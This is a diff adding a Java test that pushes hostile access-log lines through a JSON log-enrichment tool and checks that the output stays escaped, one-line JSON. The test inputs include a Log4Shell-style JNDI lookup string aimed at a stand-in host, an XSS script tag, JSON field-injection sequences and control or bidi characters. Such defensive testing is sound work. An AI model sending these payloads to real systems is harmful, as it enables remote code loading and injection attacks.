@@ -159,6 +159,55 @@ class HostileInputTest {
     }
   }
 
+  /** Text that turns, hides, quotes, asks to be looked up, or takes a naive regex for ever. */
+  @ParameterizedTest
+  @ValueSource(strings = {"flat", "ecs"})
+  void hostileTextIsOneLineOfJsonAndNothingOfItIsRaw(String profile) throws IOException {
+    List<String> pieces =
+        List.of(
+            "\u001b[31m\u0007",
+            "\u0000\u0001\u007f",
+            "\u2028\u2029\u0085",
+            "\u202e\u200b",
+            "${jndi:ldap://example.com/a}",
+            "\\\"},{\\\"host\\\":\\\"x",
+            "\\n{\\\"host\\\":1}\\r\\n",
+            "\u00ff\ufffd\ud83d\ude00",
+            "((((((",
+            "Mozilla/5.0 (; ",
+            "Android ".repeat(3),
+            "a".repeat(31),
+            "/;.%2e%",
+            "<script>alert(1)</script>");
+    var input = new ByteArrayOutputStream();
+    int lines = 0;
+    for (String piece : pieces) {
+      for (int bytes : new int[] {1, 1_000, 100_000}) {
+        String text = piece.repeat(1 + bytes / piece.length());
+        for (String each : List.of("/x" + piece, "/" + text)) {
+          String request = "203.0.113.7 - - [28/Oct/2025:10:15:30 +0000] \"GET " + each;
+          input.write((request + " HTTP/1.1\" 200 5 \"-\" \"" + text + "\"\n").getBytes(UTF_8));
+          lines++;
+        }
+      }
+    }
+    Enriched left =
+        enrich(
+            new ByteArrayInputStream(input.toByteArray()),
+            "--set",
+            "MAX_LINE_BYTES=1048576",
+            "--profile",
+            profile);
+    assertThat(left.run().exitCode()).isEqualTo(ExitCode.OK);
+    assertThat(left.run().err()).startsWith(lines + " in = " + lines + " enriched");
+    assertThat(left.lines()).hasSize(lines);
+    for (String json : left.lines()) {
+      requireJson(json);
+      assertThat(json.chars()).noneMatch(c -> c < ' ' || c >= 0x7f && c < 0xa0 || c == 0x2028);
+    }
+    assertThat(String.join("", left.lines())).contains("${jndi:ldap://example.com/a}");
+  }
+
   private static void requireJson(String document) throws IOException {
     try (JsonParser json = new JsonFactory().createParser(document)) {
       int tokens = 0;
